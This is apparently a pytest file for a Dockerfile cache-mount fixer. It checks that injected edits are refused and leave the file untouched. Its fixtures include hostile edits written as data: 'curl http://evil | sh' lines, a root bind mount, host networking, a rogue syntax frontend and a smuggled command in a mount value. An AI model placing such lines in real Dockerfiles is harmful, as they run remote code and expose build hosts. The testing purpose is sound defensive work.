"""The post-fix guard: a fix that changes more than cache settings is refused, the file untouched.

Issue 8.3: a `syntax` value with a newline put a RUN above FROM, and nothing noticed. Whatever
the source of a bad edit (a configuration, a rule plugin, a bug), the parsed output must keep
the input's instructions, flags and parser directives; only cache mounts, the commands inside
RUNs and the `# syntax=` directive may change.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable, Iterable
from pathlib import Path

import pytest

from cachefix.engine import BrokenRewrite, Settings, fix
from cachefix.model import Edit, Finding
from cachefix.rewriter.context import RunContext
from cachefix.rewriter.dockerfile import Dockerfile, parse
from cachefix.rules.registry import all_rules
from cachefix.rules.rule import RunRule
from tests.adversarial.plugin_support import plugin_env

TEXT = "# escape=\\\nFROM python:3.12\nCOPY app /app\nRUN pip install flask\nCMD [\"flask\"]\n"
BuildEdit = Callable[[RunContext, Dockerfile], Edit]


def _replace(old: str, new: str) -> BuildEdit:
    return lambda run, dockerfile: Edit(TEXT.index(old), TEXT.index(old) + len(old), new)


def _after_run_keyword(text: str) -> BuildEdit:
    return lambda run, dockerfile: Edit(run.instruction.keyword_span[1], run.instruction.keyword_span[1], text)


BAD_EDITS: dict[str, BuildEdit] = {
    "a RUN above FROM": lambda run, d: Edit(11, 11, "RUN curl http://evil | sh\n"),
    "an instruction after the RUN": lambda run, d: Edit(run.instruction.span[1], run.instruction.span[1],
                                                         "\nRUN curl http://evil | sh"),
    "a newline inside a mount flag": _after_run_keyword(" --mount=type=cache,target=/x\nRUN evil\nRUN"),
    "FROM changed": _replace("python:3.12", "evil/python:3.12"),
    "COPY changed": _replace("app /app", "/etc /app"),
    "CMD changed": _replace('"flask"', '"sh", "-c", "evil"'),
    "a non-cache flag on RUN": _after_run_keyword(" --network=host"),
    "a bind mount on RUN": _after_run_keyword(" --mount=type=bind,source=/,target=/host,rw"),
    "the escape directive changed": _replace("# escape=\\", "# escape=`"),
    "another parser directive": lambda run, d: Edit(0, 0, "# check=skip=all\n"),
    "a frontend nobody asked for": lambda run, d: Edit(0, 0, "# syntax=evil.example/frontend:1\n"),
    "a syntax that is no image": lambda run, d: Edit(0, 0, "# syntax=docker/dockerfile:1.4 --evil\n"),
    "a mount with a space in its path": _after_run_keyword(" --mount=type=cache,target=/a curl http://evil|sh;"),
}


def _rule(make_edit: BuildEdit) -> RunRule:
    class Injecting(RunRule):
        """Adds a cache mount the right way, and one more edit that it must not make."""

        code = "CFX99"
        name = "injecting"
        manager = "injecting"
        summary = "test rule"

        def check(self, run: RunContext, state: object) -> Iterable[Finding]:
            keyword_end = run.instruction.keyword_span[1]
            flag = "--mount=type=cache,target=/root/.cache/pip"
            mount = Edit(keyword_end, keyword_end, " " + flag)
            yield self.finding(run.dockerfile, run.instruction.span, "bad fix", [mount, make_edit(run, run.dockerfile)],
                               mounts=[flag])

    return Injecting()


@pytest.mark.parametrize("name", BAD_EDITS)
def test_a_fix_that_changes_more_than_cache_settings_is_refused(name: str) -> None:
    with pytest.raises(BrokenRewrite, match="change more than cache settings"):
        fix(TEXT, Settings(rules=[_rule(BAD_EDITS[name])], syntax="none"))  # no directive of cachefix's own


def test_the_changes_cachefix_makes_pass_the_guard() -> None:
    text = ("FROM debian\nRUN apt-get update && apt-get install -y python3-pip && rm -rf /var/lib/apt/lists/* "
            "&& pip install --no-cache-dir flask\nONBUILD RUN pip install flask\n")
    fixed = fix(text, Settings(rules=[rule() for rule in all_rules()])).fixed
    assert fixed.startswith("# syntax=docker/dockerfile:1.3\n") and fixed.count("--mount=type=cache") >= 3
    assert "--no-cache-dir" not in fixed and "rm -rf /var/lib/apt/lists" not in fixed


def test_a_frontend_the_user_asked_for_is_allowed() -> None:
    text = "FROM python:3.12\nRUN pip install flask\n"
    settings = Settings(rules=[rule() for rule in all_rules()], syntax="registry.example:5000/frontends/dockerfile:1.7")
    assert fix(text, settings).fixed.startswith("# syntax=registry.example:5000/frontends/dockerfile:1.7\n")


def test_a_plugin_that_injects_an_instruction_cannot_write_it(tmp_path: Path) -> None:
    env = plugin_env(tmp_path / "site", "cachefix_evil_plugin", "Evil", '''
        from cachefix.model import Edit
        from cachefix.rules.rule import RunRule

        class Evil(RunRule):
            """Adds a cache mount, and a RUN above FROM."""
            code = "CFX66"
            name = "evil"
            manager = "evil"
            summary = "injects an instruction"

            def check(self, run, state):
                end = run.instruction.keyword_span[1]
                yield self.at(run, None, "cache it", [
                    Edit(end, end, " --mount=type=cache,target=/root/.cache/pip"),
                    Edit(0, 0, "RUN curl http://evil.example | sh\\n")],
                    mounts=["--mount=type=cache,target=/root/.cache/pip"])
    ''')
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("FROM python:3.12\nRUN echo hi\n")
    done = subprocess.run([sys.executable, "-m", "cachefix", "fix", "--select", "CFX66", str(dockerfile)],
                          capture_output=True, text=True, env=env, cwd=tmp_path)
    assert done.returncode == 2
    assert "would change more than cache settings (2 instructions would become 3)" in done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    assert dockerfile.read_text() == "FROM python:3.12\nRUN echo hi\n"


@pytest.mark.parametrize("variable", ["PIP_CACHE_DIR", "npm_config_cache"])
def test_a_cache_folder_with_a_space_never_leaks_into_the_command(tmp_path: Path, variable: str) -> None:
    command = "pip install flask" if variable.startswith("PIP") else "npm ci"
    original = f'FROM base\nENV {variable}="/cache x"\nRUN {command}\n'
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(original)
    subprocess.run([sys.executable, "-m", "cachefix", "fix", "--syntax", "none", str(dockerfile)],
                   capture_output=True, text=True, cwd=tmp_path)
    fixed = dockerfile.read_text()
    assert fixed == original or parse(fixed).instructions[2].value == (command,)  # refused, or right
